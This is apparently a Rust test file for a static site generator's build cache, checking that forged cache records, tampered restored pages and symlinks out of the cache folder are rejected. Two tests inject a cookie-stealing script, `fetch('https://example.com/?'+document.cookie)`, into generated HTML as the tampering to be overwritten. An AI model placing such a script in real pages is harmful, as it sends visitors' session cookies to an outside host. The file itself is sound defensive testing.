//! Hostile inputs: the build cache folder (`--cache-dir`), which CI restores from what an
//! earlier pipeline saved, maybe another branch's. Garbage, a cache cut short, a file
//! of the right header with forged records, a folder or a link where a cache file
//! should be: each is ignored with a warning that names it, the build succeeds and
//! writes what a build without the cache writes, and nothing outside the folder is read
//! or written through a link.

use std::collections::BTreeMap;

use crate::util::Site;

const PAGE: &str = "---\ntitle: P\n---\n# P\n\nSee [Q](q.md).\n\n```bash\nsystemctl restart queue\n```\n";

/// Every file under `dir` of `site`, with its bytes.
fn listing(site: &Site, dir: &str) -> BTreeMap<String, Vec<u8>> {
    site.files_under(dir).into_iter().map(|file| (file.clone(), site.read_bytes(&format!("{dir}/{file}")))).collect()
}

/// A small handbook, built once with the cache folder `cache/` and once without any
/// cache into `fresh/`, the output to compare with.
fn handbook(name: &str) -> Site {
    let site = Site::with_files(
        name,
        &[("content/p.md", PAGE), ("content/q.md", "---\ntitle: Q\n---\n# Q\n\n```yaml\na: 1\n```\n")],
    );
    site.build(&["--cache-dir", "cache"]).expect_code(0);
    site.build(&["--no-cache", "--out", "fresh"]).expect_code(0);
    site
}

/// Builds again with the cache folder into a new `public/`: succeeds with the output of
/// a build without the cache, and returns what it printed.
fn build_again(site: &Site) -> String {
    let _ = std::fs::remove_dir_all(site.root.join("public"));
    let run = site.build(&["--cache-dir", "cache"]);
    run.expect_code(0);
    assert!(listing(site, "public") == listing(site, "fresh"), "the output differs from a build without the cache");
    run.stderr.clone()
}

#[test]
fn a_corrupt_cache_is_ignored_with_a_warning() {
    let site = handbook("cache-dir-corrupt");
    let blocks = site.read_bytes("cache/opsbook-cache");
    let pages = site.read_bytes("cache/opsbook-pages");
    let mut flipped = pages.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0xff;
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        ("garbage", "cache/opsbook-cache", b"not a cache at all".to_vec()),
        ("cut short", "cache/opsbook-cache", blocks[..blocks.len() / 2].to_vec()),
        ("a forged header", "cache/opsbook-cache", [b"opsbook-cache 5\n".as_slice(), &[0xff; 64]].concat()),
        ("page records cut short", "cache/opsbook-pages", pages[..pages.len() - 9].to_vec()),
    ];
    for (what, path, bytes) in cases {
        site.write(path, bytes);
        let printed = build_again(&site);
        assert!(printed.contains("warning: the build cache"), "{what}: {printed}");
        assert!(printed.contains(path.trim_start_matches("cache/")), "{what}: the file is named: {printed}");
        assert!(printed.contains("is not used"), "{what}: {printed}");
        // The build wrote a good cache again: the next build uses it without a word.
        let again = build_again(&site);
        assert!(!again.contains("warning: the build cache"), "{what}: the cache was written anew: {again}");
    }
    // A record whose bytes do not match its hash is a record not found: rendered again.
    site.write("cache/opsbook-pages", flipped);
    build_again(&site);
}

/// The cache keeps the search index's files compressed, and a rebuild writes them from
/// it: a byte changed inside one (a forged index file) makes the whole cache unbelieved,
/// and the rebuild writes the index a build without the cache writes.
#[test]
fn a_changed_byte_in_a_kept_index_file_is_never_published() {
    let site = handbook("cache-dir-index");
    let cache = site.read_bytes("cache/opsbook-cache");
    // As written (`read_bytes` would inflate it).
    let manifest = std::fs::read(site.root.join("public/search/manifest.json")).expect("the manifest");
    let at = cache.windows(manifest.len()).position(|w| w == manifest.as_slice()).expect("the index file is kept");
    let mut forged = cache.clone();
    forged[at + manifest.len() / 2] ^= 0x20;
    site.write("cache/opsbook-cache", forged);
    let printed = build_again(&site);
    assert!(printed.contains("warning: the build cache") && printed.contains("is not used"), "{printed}");
}

/// The page records keep each page's search postings with the page's words as text: a
/// byte changed there (a forged word) makes the record one not found, and the rebuild
/// makes the page's postings again from its text, as a build without the cache does.
#[test]
fn a_changed_byte_in_a_page_s_kept_postings_is_never_published() {
    let site = Site::with_files(
        "cache-dir-postings",
        &[("content/p.md", "---\ntitle: P\n---\n# P\n\n## Failover\n\nPromote the Zyxwvutsr replica.\n")],
    );
    site.build(&["--cache-dir", "cache"]).expect_code(0);
    site.build(&["--no-cache", "--out", "fresh"]).expect_code(0);
    let pages = site.read_bytes("cache/opsbook-pages");
    // The folded word with its length, which only the kept postings hold (the page's
    // Markdown result keeps the text as written).
    let word = b"\x09zyxwvutsr";
    let at = pages.windows(word.len()).position(|w| w == word).expect("the postings are kept");
    let mut forged = pages.clone();
    forged[at + 1] = b'q';
    site.write("cache/opsbook-pages", forged);
    build_again(&site);
    let index: String =
        site.files_under("public/search").iter().map(|file| site.read(&format!("public/search/{file}"))).collect();
    assert!(index.contains("zyxwvutsr") && !index.contains("qyxwvutsr"), "{index}");
}

/// The output folder comes back from a CI cache beside the build cache, and either may
/// be another pipeline's: a page file changed there (a script slipped in, of the same
/// length or not) is never kept on the cache's word, though the page's template
/// context is the one the cache knows. Each is rendered and written again.
#[test]
fn a_page_file_changed_in_a_restored_output_is_written_again() {
    let site = handbook("cache-dir-restored-output");
    let page = site.read("public/p/index.html");
    let same_length = page.replacen("<main", "<mai\u{0}", 1);
    assert_eq!(same_length.len(), page.len());
    let longer = page.replacen("</body>", "<script>fetch('https://example.com/?'+document.cookie)</script></body>", 1);
    assert_ne!(longer, page);
    for forged in [same_length, longer] {
        site.build(&["--cache-dir", "cache"]).expect_code(0);
        site.write("public/p/index.html", &forged);
        let run = site.build(&["--cache-dir", "cache"]);
        run.expect_code(0);
        assert!(
            listing(&site, "public") == listing(&site, "fresh"),
            "the output differs from a build without the cache"
        );
    }
    // As a CI restores it: the whole folder and its manifest copied, new inodes.
    let _ = std::fs::remove_dir_all(site.root.join("restored"));
    crate::util::copy_dir(&site.root.join("public"), &site.root.join("restored"));
    std::fs::remove_dir_all(site.root.join("public")).expect("remove the output");
    std::fs::rename(site.root.join("restored"), site.root.join("public")).expect("restore the output");
    site.write("public/p/index.html", page.replacen("</body>", "<!-- forged --></body>", 1));
    site.build(&["--cache-dir", "cache"]).expect_code(0);
    assert!(listing(&site, "public") == listing(&site, "fresh"), "the output differs from a build without the cache");
}

/// A section's print page is kept, as any page, when its template context and the
/// bodies it shows are the previous build's: a print page file changed in the restored
/// output (a script slipped in, of the same length or not) is written again all the
/// same, and a body changed since is shown, never the kept file's.
#[test]
fn a_print_page_changed_in_a_restored_output_is_written_again() {
    let site = Site::with_files(
        "cache-dir-print-page",
        &[("content/ops/p.md", PAGE), ("content/ops/q.md", "---\ntitle: Q\n---\n# Q\n\nDrain the node.\n")],
    );
    site.build(&["--cache-dir", "cache"]).expect_code(0);
    let print = site.read("public/print/ops/index.html");
    assert!(print.contains("Drain the node."), "the print page shows the section's bodies: {print}");
    let same_length = print.replacen("Drain", "Drai\u{0}", 1);
    assert_eq!(same_length.len(), print.len());
    let longer = print.replacen("</body>", "<script>fetch('https://example.com/?'+document.cookie)</script></body>", 1);
    assert_ne!(longer, print);
    for (at, forged) in [same_length, longer].into_iter().enumerate() {
        site.write("content/ops/q.md", format!("---\ntitle: Q\n---\n# Q\n\nDrain the node {at}.\n"));
        let _ = std::fs::remove_dir_all(site.root.join("fresh"));
        site.build(&["--no-cache", "--out", "fresh"]).expect_code(0);
        site.build(&["--cache-dir", "cache"]).expect_code(0);
        site.write("public/print/ops/index.html", &forged);
        site.build(&["--cache-dir", "cache"]).expect_code(0);
        assert!(
            listing(&site, "public") == listing(&site, "fresh"),
            "the output differs from a build without the cache"
        );
        assert!(site.read("public/print/ops/index.html").contains(&format!("Drain the node {at}.")));
    }
}

#[test]
fn a_folder_where_a_cache_file_should_be_is_ignored_with_a_warning() {
    let site = handbook("cache-dir-folder");
    std::fs::remove_file(site.root.join("cache/opsbook-cache")).expect("remove the cache");
    std::fs::create_dir_all(site.root.join("cache/opsbook-cache/inside")).expect("a folder in its place");
    let printed = build_again(&site);
    assert!(printed.contains("warning: the build cache") && printed.contains("opsbook-cache"), "{printed}");
    assert!(printed.contains("cannot be read"), "{printed}");
}

#[cfg(unix)]
#[test]
fn a_link_out_of_the_cache_folder_is_never_followed() {
    let site = handbook("cache-dir-link");
    let secret = site.root.join("secret.txt");
    std::fs::write(&secret, "a secret").expect("a file outside the cache");
    for name in ["opsbook-cache", "opsbook-pages"] {
        let path = site.root.join("cache").join(name);
        std::fs::remove_file(&path).expect("remove the cache file");
        std::os::unix::fs::symlink(&secret, &path).expect("a link out of the cache folder");
    }
    let printed = build_again(&site);
    assert!(printed.contains("it leads outside the folder given on the command line"), "{printed}");
    assert!(printed.contains("the link is removed"), "{printed}");
    assert_eq!(std::fs::read_to_string(&secret).expect("read the secret"), "a secret", "never written through");
    for name in ["opsbook-cache", "opsbook-pages"] {
        let metadata = std::fs::symlink_metadata(site.root.join("cache").join(name)).expect("the new file");
        assert!(metadata.file_type().is_file(), "{name}: a regular file replaces the link");
    }
}
